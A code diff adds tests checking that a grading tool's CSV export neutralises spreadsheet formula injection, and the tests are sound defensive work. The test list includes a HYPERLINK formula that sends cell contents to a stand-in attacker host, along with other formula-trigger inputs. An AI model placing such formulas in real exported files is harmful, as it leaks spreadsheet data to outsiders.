@@ -2,7 +2,7 @@
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { describe, expect, it } from 'vitest';
 import type { GradeReport } from '../report.ts';
-import { formatCsv, formatRosterCsv } from './csv.ts';
+import { csvCell, formatCsv, formatRosterCsv } from './csv.ts';
 import { classroomResult, githubOutputLine } from './github.ts';
 import { formatJunit } from './junit.ts';
 import { formatRosterText, formatText } from './text.ts';
@@ -44,6 +44,17 @@ describe('csv', () => {
     const lines = formatCsv(report('000000000001', false)).trimEnd().split('\n');
     expect(lines[1]).toBe('ec2-launch,000000000001,s1,key,Key pair <lab-key>,pass,true,1,1,"Key ""lab-key"" & friends exist",');
     expect(formatRosterCsv([{ student: 'Kim, Minji', report: report('000000000001', true) }]).split('\n')[1]).toBe('"Kim, Minji",000000000001,ec2-launch,3,3,true,1,2');
+  });
+});
+
+describe('csv injection', () => {
+  it('neutralises text a spreadsheet would run as a formula, and keeps numbers', () => {
+    for (const name of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1']) {
+      const cell = formatRosterCsv([{ student: name, report: report('000000000001', true) }]).split('\n')[1]!.split(',')[0]!;
+      expect(cell.replace(/^"/, '').startsWith("'"), name).toBe(true);
+    }
+    expect(csvCell(-3)).toBe('-3');
+    expect(csvCell('Kim Minji')).toBe('Kim Minji');
   });
 });
 
